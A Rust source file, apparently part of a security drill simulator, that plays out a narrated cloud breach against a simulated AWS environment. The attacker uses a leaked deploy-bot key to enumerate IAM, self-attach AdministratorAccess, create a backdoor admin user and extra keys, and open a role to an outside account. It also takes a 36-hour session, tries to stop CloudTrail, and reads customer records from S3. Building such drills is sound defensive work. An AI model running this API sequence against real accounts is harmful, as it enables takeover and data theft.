//! The attack before anybody responds: from the leaked key to another account's data, told as it goes.

use jiff::SignedDuration;
use serde_json::{Value, json};

use crate::adversary::{ADDRESS, ADMINISTRATOR, Adversary, Holder};
use crate::company::Company;
use crate::error::DrillError;
use crate::telling::{Teller, Voice};
use crate::world::{RECORDS, World, policy, record_key};

/// Lets time pass while everybody honest works.
pub(crate) async fn pass(world: &World, company: &mut Company, by: SignedDuration) {
    let mut left = by;
    while left.is_positive() {
        let step = left.min(SignedDuration::from_secs(30));
        let now = world.range.advance(step);
        company.work(now).await;
        left -= step;
    }
}

/// The attack, told as it goes.
pub(crate) async fn attack(
    world: &World,
    company: &mut Company,
    teller: &Teller<'_>,
) -> Result<Adversary, DrillError> {
    let mut attacker = Adversary::new(world);
    teller.tell(
        Voice::Attacker,
        format!("finds the key of deploy-bot in a public repository and uses it from {ADDRESS}"),
    );
    let refused = explore(world, company, &mut attacker).await;
    teller.tell(
        Voice::Attacker,
        format!("asks who it is, reads users, roles and policies of the account; {refused} other calls are refused"),
    );
    let input = json!({"UserName": "deploy-bot", "PolicyArn": ADMINISTRATOR});
    step(&mut attacker, "iam", "AttachUserPolicy", input).await?;
    teller.tell(
        Voice::Attacker,
        "attaches AdministratorAccess to its own user, which a careless statement allows",
    );
    pass(world, company, SignedDuration::from_secs(75)).await;
    settle_in(world, company, &mut attacker, teller).await?;
    steal(world, company, &mut attacker, teller).await?;
    Ok(attacker)
}

async fn step(
    attacker: &mut Adversary,
    service: &str,
    operation: &str,
    input: Value,
) -> Result<Value, DrillError> {
    let answer = attacker.actor.call(service, operation, input).await;
    answer.map_err(|error| {
        DrillError::stuck(
            format!("the attacker's {service}:{operation}"),
            error.to_string(),
        )
    })
}

/// Who am I, what is there, what may I do? Returns how much was refused.
async fn explore(world: &World, company: &mut Company, attacker: &mut Adversary) -> usize {
    let calls = [
        ("sts", "GetCallerIdentity", json!({})),
        ("s3", "ListBuckets", json!({})),
        ("iam", "ListUsers", json!({})),
        ("iam", "ListRoles", json!({})),
        ("iam", "GetAccountAuthorizationDetails", json!({})),
        (
            "iam",
            "ListAttachedUserPolicies",
            json!({"UserName": "deploy-bot"}),
        ),
        ("iam", "ListUserPolicies", json!({"UserName": "deploy-bot"})),
        (
            "iam",
            "GetUserPolicy",
            json!({"UserName": "deploy-bot", "PolicyName": "deploy-bot-work"}),
        ),
        ("iam", "ListGroups", json!({})),
        ("organizations", "DescribeOrganization", json!({})),
        ("cloudtrail", "DescribeTrails", json!({})),
        ("iam", "CreateUser", json!({"UserName": "support-svc"})),
        ("iam", "CreateAccessKey", json!({"UserName": "deploy-bot"})),
        (
            "sts",
            "AssumeRole",
            json!({"RoleArn": attacker.maintenance.clone(), "RoleSessionName": "test"}),
        ),
        (
            "sts",
            "AssumeRole",
            json!({"RoleArn": attacker.reader.clone(), "RoleSessionName": "test"}),
        ),
    ];
    let mut refused = 0;
    for (service, operation, input) in calls {
        refused += usize::from(attacker.first(service, operation, input).await.is_none());
        pass(world, company, SignedDuration::from_secs(11)).await;
    }
    refused
}

/// A second key, a user, a door for an account outside, a long session.
async fn settle_in(
    world: &World,
    company: &mut Company,
    attacker: &mut Adversary,
    teller: &Teller<'_>,
) -> Result<(), DrillError> {
    let made = step(
        attacker,
        "iam",
        "CreateAccessKey",
        json!({"UserName": "deploy-bot"}),
    )
    .await?;
    attacker.take(Holder::User("deploy-bot".into()), &made);
    teller.tell(Voice::Attacker, "makes a second key for deploy-bot");
    pass(world, company, SignedDuration::from_secs(40)).await;
    let user = json!({"UserName": "support-svc"});
    step(attacker, "iam", "CreateUser", user.clone()).await?;
    let attach = json!({"UserName": "support-svc", "PolicyArn": ADMINISTRATOR});
    step(attacker, "iam", "AttachUserPolicy", attach).await?;
    let made = step(attacker, "iam", "CreateAccessKey", user).await?;
    attacker.take(Holder::User("support-svc".into()), &made);
    teller.tell(
        Voice::Attacker,
        "makes the user support-svc, an administrator with a key",
    );
    pass(world, company, SignedDuration::from_secs(50)).await;
    let shop = &world.accounts.shop;
    let outside = &world.accounts.outside;
    let document = policy(json!([
        {"Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{shop}:role/ops")}, "Action": "sts:AssumeRole"},
        {"Effect": "Allow", "Principal": {"AWS": format!("arn:aws:iam::{outside}:root")}, "Action": "sts:AssumeRole"},
    ]));
    let input = json!({"RoleName": "maintenance", "PolicyDocument": document});
    step(attacker, "iam", "UpdateAssumeRolePolicy", input).await?;
    teller.tell(
        Voice::Attacker,
        format!("lets its own account {outside} take the role maintenance"),
    );
    pass(world, company, SignedDuration::from_secs(35)).await;
    let answer = step(
        attacker,
        "sts",
        "GetSessionToken",
        json!({"DurationSeconds": 129_600}),
    )
    .await?;
    attacker.take(Holder::Session, &answer);
    teller.tell(
        Voice::Attacker,
        "gets a session of 36 hours, which outlives the key that it came from",
    );
    let input = json!({"Name": world.trail});
    if attacker
        .first("cloudtrail", "StopLogging", input)
        .await
        .is_some()
    {
        return Err(DrillError::stuck(
            "StopLogging",
            "a member account stopped the organisation's trail",
        ));
    }
    teller.tell(
        Voice::Attacker,
        "tries to stop the organisation's trail, and cannot",
    );
    pass(world, company, SignedDuration::from_secs(60)).await;
    Ok(())
}

/// The second account's data, by the long session.
async fn steal(
    world: &World,
    company: &mut Company,
    attacker: &mut Adversary,
    teller: &Teller<'_>,
) -> Result<(), DrillError> {
    let session = attacker.session();
    let session =
        session.ok_or_else(|| DrillError::stuck("GetSessionToken", "no session was handed out"))?;
    let input = json!({"RoleArn": attacker.reader, "RoleSessionName": "report"});
    let answer = attacker
        .actor
        .call_with(&session, "sts", "AssumeRole", input)
        .await?;
    let role = attacker.take(Holder::Role, &answer);
    let role = role.ok_or_else(|| DrillError::stuck("AssumeRole", "no session was handed out"))?;
    let bucket = world.buckets.records.clone();
    let list = json!({"Bucket": bucket});
    attacker
        .actor
        .call_with(&role, "s3", "ListObjectsV2", list)
        .await?;
    for number in 1..=RECORDS {
        let input = json!({"Bucket": bucket, "Key": record_key(number)});
        let got = attacker
            .actor
            .call_with(&role, "s3", "GetObject", input)
            .await;
        attacker.loot += usize::from(got.is_ok());
        pass(world, company, SignedDuration::from_secs(4)).await;
    }
    teller.tell(
        Voice::Attacker,
        format!(
            "takes the role data-reader in the second account and reads {} customers' records",
            attacker.loot
        ),
    );
    Ok(())
}
